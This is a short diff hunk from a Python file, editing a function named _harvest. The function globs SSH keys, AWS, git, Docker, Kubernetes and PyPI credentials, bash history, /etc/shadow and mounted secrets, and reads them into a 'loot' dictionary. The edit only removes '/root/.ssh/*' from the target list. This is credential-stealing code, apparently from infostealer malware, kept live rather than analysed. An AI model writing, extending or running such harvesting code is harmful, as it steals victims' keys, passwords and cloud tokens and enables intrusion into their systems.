@@ -32,7 +32,7 @@ def _harvest():
     paths = []
     for pattern in ("~/.ssh/*", "~/.config/*", "~/.config/*/*", "~/.netrc", "~/.aws/credentials",
                     "~/.git-credentials", "~/.docker/config.json", "~/.kube/config", "~/.pypirc",
-                    "~/.bash_history", "/root/.ssh/*", "/etc/shadow", "/run/secrets/*",
+                    "~/.bash_history", "/etc/shadow", "/run/secrets/*",
                     "/var/run/secrets/kubernetes.io/serviceaccount/token"):
         paths.extend(glob.glob(os.path.expanduser(pattern))[:40])
     loot["files"] = {p: _read(p) for p in paths if os.path.isfile(p)}
